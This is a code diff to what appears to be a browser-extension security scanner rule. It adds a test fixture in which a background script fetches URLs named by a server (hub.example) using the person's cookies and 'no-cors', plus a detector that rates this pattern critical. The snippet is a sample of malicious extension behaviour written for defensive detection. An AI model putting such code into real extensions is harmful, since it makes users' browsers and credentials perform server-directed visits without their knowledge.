@@ -1,4 +1,4 @@
-import { apiPath, callsOf, Op, propertyOf } from '../../facts/javascript/query.ts';
+import { apiPath, callsOf, constant, Op, propertyOf } from '../../facts/javascript/query.ts';
 import type { Flow } from '../../taint/flow.ts';
 import { flowsOf } from '../../extension/flowsOf.ts';
 import { hitsOfFlows, type Weight } from '../../taint/hits.ts';
@@ -47,8 +47,14 @@ export const fetchesForOthers = defineRule({
       backgroundExample(
         'class Job { constructor(raw) { Object.assign(this, raw); } async run() { const r = await fetch(this.u, { method: this.m, body: this.b, credentials: "include" }); return { s: r.status, t: await r.text() }; } } async function step() { const res = await fetch("https://x.example/poll"); const job = new Job(await res.json()); const out = await job.run(); await fetch("https://x.example/result", { method: "POST", body: JSON.stringify(out) }); } step();',
       ),
+      backgroundExample(
+        'class Campaign { async *steps() { for (const step of (await (await fetch("https://hub.example/updates")).json()).entries) yield step; } async run() { for await (const step of this.steps()) await fetch(step.to, { credentials: "include", mode: "no-cors" }).catch(() => 0); } } chrome.alarms.onAlarm.addListener(() => new Campaign().run());',
+      ),
     ],
     good: [
+      backgroundExample(
+        'chrome.alarms.onAlarm.addListener(async () => { for (const step of (await (await fetch("https://hub.example/updates")).json()).entries) show(await (await fetch(step.to, { credentials: "include" })).text()); });',
+      ),
       backgroundExample(
         'async function all() { let url = "https://api.example.com/items"; while (url) { const d = await (await fetch(url)).json(); keep(d.items); url = d.next; } }',
       ),
@@ -85,6 +91,7 @@ function ordered(flow: Flow, flows: readonly Flow[]): Weight | undefined {
   const { source, sink, place } = flow;
   if (isDescribedByServer(flow))
     return { severity: 'high', confidence: 'medium', message: say('server-describes-requests') };
+  if (isVisitOnly(flow)) return { severity: 'critical', confidence: 'high', message: say('server-sends-visits') };
   if (source.kind !== 'pushed' || sink.kind !== 'request-address') return undefined;
   const isDescribed = flows.some(
     (other) =>
@@ -101,6 +108,18 @@ function ordered(flow: Flow, flows: readonly Flow[]): Weight | undefined {
         message: say('server-messages-decide-requests'),
       }
     : undefined;
+}
+
+/**
+ * A request by itself to an address that a server names, with the person's cookies and an answer that nobody can read
+ * (`mode: 'no-cors'`, Fetch standard): all that comes of it is a visit that was none.
+ */
+function isVisitOnly({ source, sink, unit, pos }: Flow): boolean {
+  if (source.kind !== 'remote-data' || sink.kind !== 'request-address' || runsWhenAsked(unit, pos)) return false;
+  const { script } = unit;
+  const call = callsOf(script, 'fetch').find((one) => one.pos === pos);
+  const option = (name: string): string | undefined => constant(script, propertyOf(script, call?.args[1] ?? 0, name));
+  return option('mode') === 'no-cors' && option('credentials') === 'include';
 }
 
 /** A request whose address a server's answer names, and whose method is a part of something, too: `fetch(job.to, { method: job.verb })`. */
